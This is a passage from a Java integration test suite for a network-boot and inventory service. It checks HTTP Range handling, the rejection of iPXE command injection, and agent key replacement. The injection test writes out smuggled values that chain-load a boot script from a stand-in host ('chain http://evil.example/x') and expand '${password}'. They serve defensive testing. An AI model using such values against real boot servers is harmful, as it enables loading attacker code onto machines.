    assertThat(http(boot, "GET", "/files/passwd", null).body()).isEqualTo("not found: /files/passwd\n");
    for (String range : List.of("bytes=99999999999999999999-", "bytes=5000-6000", "bytes=a-b", "bytes=-")) {
      Reply r = http(boot, "GET", "/files/vmlinuz", null, "Range: " + range);
      assertThat(r.status()).as(range + ": " + r.body()).isEqualTo(416);
      assertThat(r.headers().get("content-range")).as(range).isEqualTo("bytes */1000");
      assertNoExceptionText(r);
    }
    Reply part = http(boot, "GET", "/files/vmlinuz", null, "Range: bytes=990-");
    assertThat(part.status()).isEqualTo(206);
    assertThat(part.headers().get("content-range")).isEqualTo("bytes 990-999/1000");
  }

  // ---------------------------------------------------------------- F12

  @Test
  @Order(90)
  void f12_anAgentWrittenValueCannotInjectIpxeCommands() throws Exception {
    // the operator's template names a field Mallory's agent writes
    Reply set = http(api, "POST", "/api/inventory/computers/" + mallory.mercuryId() + "/boot/script",
        "{\"script\": \"#!ipxe\\necho {{dmi.sys_vendor}}\\n\"}", "Content-Type: application/json");
    assertThat(set.status()).as(set.body()).isEqualTo(200);
    assertThat(audit().find(Filters.and(Filters.eq("action", "update_boot"), Filters.regex("who.name", "^api"), Filters.eq("outcome", "ok"))).first())
        .isNotNull();
    String mac = TestStack.macOf(MALLORY_UUID, 0);
    assertThat(discover(mac).body()).startsWith("#!ipxe\necho Dell Inc.");

    ServiceClient malloryToBackend = as(malloryKey(), backend.address(), "backend");
    Map<String, Object> dmi = new LinkedHashMap<>();
    ((Map<?, ?>) device(mallory.mercuryId()).get("dmi")).forEach((k, v) -> dmi.put((String) k, v));
    dmi.put("sys_vendor", "Dell Inc.\nchain http://evil.example/x");
    malloryToBackend.invoke(Request.of("update", mallory.mercuryId(), Map.of("dmi", dmi)), false);

    Reply script = discover(mac);
    assertThat(script.body().lines()).noneMatch(l -> l.strip().startsWith("chain"));
    assertThat(script.body())
        .startsWith("#!ipxe\necho MERCURY BOOT ERROR: boot.script of " + mallory.mercuryId() + " not served: the value of {{dmi.sys_vendor}} ")
        .contains("holds a control character (U+000A)")
        .endsWith("\nexit 1\n");
    await().atMost(Duration.ofSeconds(10)).until(() -> logOf("boot").contains("decision=unsafe-value"));
    assertThat(logOf("boot")).contains(mallory.mercuryId());

    for (String sameLine : List.of("Dell && chain http://evil.example/x", "${password}", "Dell ; chain http://evil.example/x")) {
      dmi.put("sys_vendor", sameLine);
      malloryToBackend.invoke(Request.of("update", mallory.mercuryId(), Map.of("dmi", dmi)), false);
      assertThat(discover(mac).body()).as(sameLine).startsWith("#!ipxe\necho MERCURY BOOT ERROR: ").doesNotContain("${password}").endsWith("\nexit 1\n");
    }
  }

  // ---------------------------------------------------------------- the agent's own life

  @Test
  @Order(100)
  void anAgentRestartedWithItsKeyRegistersAgain() throws Exception {
    stack.kill9("victim");
    await().atMost(Duration.ofSeconds(60)).until(() -> stack.activeOrigin(victim.mercuryId()) == null);
    stack.restart("victim");
    stack.awaitActive(victim.mercuryId());
    assertThat(keys("accepted").stream().filter(k -> victim.mercuryId().equals(k.get("name")))).hasSize(1);
  }

  @Test
  @Order(101)
  void anOperatorReplacesTheKeyOfAReinstalledAgent() throws Exception {
    String oldFingerprint =
        (String) keys("accepted").stream().filter(k -> victim.mercuryId().equals(k.get("name"))).findFirst().orElseThrow().get("fingerprint");
    stack.kill9("victim");
    Path state = stack.agentState("victim");
    Files.delete(KeyFiles.secretFile(state, "agent"));
    Files.delete(KeyFiles.publicFile(state, "agent"));
    KeyFiles.loadOrCreate(state, "agent", Map.of("name", "agent"));
    String newKey = KeyFiles.load(state, "agent").publicKey();
    // the reinstalled machine comes with a fresh token: it does not let a second key in
    stack.restart("victim", Map.of("MERCURY_ENROL_TOKEN", stack.token(backend)));
    Map<?, ?> pending =
        await().atMost(Duration.ofSeconds(60))
            .until(() -> keys("pending").stream().filter(k -> newKey.equals(k.get("public_key"))).findFirst().orElse(null),
                k -> k != null);
    assertThat(pending.get("conflict")).isEqualTo(oldFingerprint);
    Map<?, ?> replaced =
        (Map<?, ?>) operatorTo(backend.address(), "backend").invoke(Request.of("set_key_status", List.of(pending.get("fingerprint")), "replace"), false);
    assertThat(replaced.get("errors")).isEqualTo(List.of());
    assertThat(keys("revoked")).extracting(k -> (Object) k.get("fingerprint")).contains(oldFingerprint);
    assertThat(audited("operator", "set_key_status", "ok")).isNotEmpty();
    try {
      await().atMost(Duration.ofSeconds(90))
          .until(() -> {
            Map<?, ?> doc = device(victim.mercuryId());
            return doc.get("active") instanceof Map<?, ?> active && newKey.equals(active.get("curve_public_key"));
          });
    } catch (org.awaitility.core.ConditionTimeoutException e) {
      Map<?, ?> doc = device(victim.mercuryId());
      throw new AssertionError("active=" + doc.get("active") + "\nagent log:\n" + stack.log("victim")
          + "\nbackend log:\n" + stack.log("dc-a"), e);
    }
  }
}
